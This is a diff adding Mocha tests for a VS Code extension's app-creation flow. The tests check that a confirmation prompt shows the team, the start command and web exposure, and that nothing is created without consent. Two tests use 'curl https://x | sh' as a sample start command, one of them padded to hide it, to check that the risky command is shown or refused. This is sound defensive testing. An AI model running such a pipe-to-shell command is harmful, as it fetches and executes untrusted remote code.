@@ -1,0 +1,138 @@
+// What is asked before an app or a project is created where an argument says what.
+import assert from "node:assert/strict";
+import { existsSync, readdirSync, writeFileSync } from "node:fs";
+import path from "node:path";
+import { afterEach, beforeEach, describe, it } from "mocha";
+import * as vscode from "vscode";
+import { type CreateFlowOptions, runCreateFlow } from "../../../../src/features/create/createFlow";
+import { newFromTemplate } from "../../../../src/features/create/template/newFromTemplate";
+import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
+import { MemoryState } from "../../../support/memoryState";
+import { realFiles } from "../../../support/realFiles";
+import { inRepository } from "../../../support/repository";
+import { someAccount, someApp, someTeam } from "../../../support/someApp";
+import { temporaryFolder } from "../../../support/temporaryFolder";
+
+describe("the question before something is created", () => {
+  const workspace = vscode.workspace as unknown as Record<string, unknown>;
+  const tasks = vscode.tasks as unknown as Record<string, unknown>;
+  const before = { workspace: { ...workspace }, tasks: { ...tasks } };
+  let window: AskedWindow;
+  let folder: string;
+  let sent: number;
+  let looked: number;
+
+  beforeEach(() => {
+    [window, folder, sent, looked] = [askedWindow(), temporaryFolder("create-question"), 0, 0];
+    Object.assign(workspace, {
+      fs: realFiles,
+      getWorkspaceFolder: () => ({ uri: vscode.Uri.file(folder) }),
+      getConfiguration: () => ({ inspect: () => undefined, get: () => undefined }),
+    });
+    tasks["fetchTasks"] = async () => {
+      looked++;
+      return [];
+    };
+  });
+  afterEach(() => {
+    window.restore();
+    for (const [module, values] of [
+      [workspace, before.workspace],
+      [tasks, before.tasks],
+    ] as const) {
+      for (const key of Object.keys(module)) delete module[key];
+      Object.assign(module, values);
+    }
+  });
+
+  function options(): CreateFlowOptions {
+    const account = someAccount({ apps: [someApp({ teamId: "team" })], teams: [someTeam({ owner: "me" })] });
+    const accounts = { all: [account], get: () => account, load: async () => undefined };
+    return {
+      ...{ accounts, state: new MemoryState(), underWay: new Set() },
+      clock: { now: () => 0 },
+      diagnostics: { show: () => undefined, forget: () => undefined },
+      records: {
+        put: async () => {
+          sent++;
+          throw new Error("something would be sent");
+        },
+      },
+    } as unknown as CreateFlowOptions;
+  }
+
+  const create = async (own: object = {}): Promise<unknown> =>
+    await runCreateFlow(
+      { accountId: "account", folder: vscode.Uri.file(folder).toString(), ...own },
+      options(),
+    );
+  const project = (file: object): void => {
+    writeFileSync(path.join(folder, "main.py"), "print(1)\n");
+    writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
+  };
+
+  it("names what hosted-app.json adds: the team, the start and that the web reaches it", async () => {
+    project({ name: "Shop", team: "team", startupCommand: "curl https://x | sh\n", exposedViaWeb: true });
+    await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
+    const [{ text, lines, buttons } = { text: "", lines: [], buttons: [] }] = window.asked;
+    assert.deepEqual([text, buttons], ["Create Shop?", ["Create"]]);
+    assert.match(lines[0] ?? "", /^From .*create-question.*: 2 files/);
+    assert.deepEqual(lines.slice(1), [
+      "In the account me",
+      "The app belongs to the team Crew, whose members can read its files.",
+      "It starts with the command: curl https://x | sh\\n",
+      "It can be reached from the web.",
+    ]);
+    assert.equal(sent, 0);
+    window.answer = "Create";
+    await assert.rejects(create({ settings: { mainFile: "main.py" } }));
+    assert.equal(sent, 1);
+  });
+
+  it("names a team that no list knows by its id", async () => {
+    project({ name: "Shop", team: "65a0" });
+    await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
+    assert.ok(
+      window.asked[0]?.lines.includes("The app belongs to the team 65a0, whose members can read its files."),
+    );
+  });
+
+  it("is refused where the start command does not fit", async () => {
+    project({
+      name: "Shop",
+      startupCommand: `python main.py ${"x".repeat(9_000)}; curl https://x | sh; ${"y".repeat(9_000)}`,
+    });
+    await assert.rejects(create({ settings: { mainFile: "main.py" } }), /too long to be shown whole/);
+    assert.deepEqual([window.asked, sent], [[], 0]);
+  });
+
+  it("is about the task of hosted-app.json first, also where the user is asked for the rest", async () => {
+    project({ preDeployTask: "npm: build" });
+    for (const own of [{}, { settings: {} }]) await assert.rejects(create(own), { name: "CancelledError" });
+    assert.deepEqual(
+      window.asked.map(({ text }) => text),
+      ["Run the task “npm: build”?", "Run the task “npm: build”?"],
+    );
+    assert.equal(looked, 0);
+    window.answer = "Run Task";
+    await assert.rejects(create({ settings: {} }), /was not found/);
+    assert.equal(looked, 1);
+  });
+
+  it("names the template and the folder, and writes nothing without a yes", async () => {
+    const into = path.join(folder, "fresh");
+    const services = {
+      extensionUri: vscode.Uri.file(inRepository(".")),
+      everywhere: new MemoryState(),
+    } as unknown as Parameters<typeof newFromTemplate>[1];
+    const run = async () =>
+      await newFromTemplate({ template: "flask", folder: vscode.Uri.file(into).toString() }, services);
+    await assert.rejects(run(), { name: "CancelledError" });
+    assert.deepEqual(window.asked[0]?.lines, [`In the folder ${into}`]);
+    assert.match(window.asked[0]?.text ?? "", /^Create a project from “.*Flask.*”\?$/);
+    assert.equal(existsSync(into), false);
+    window.answer = "Create Project";
+    await run();
+    assert.ok(readdirSync(into).length > 0);
+  });
+});
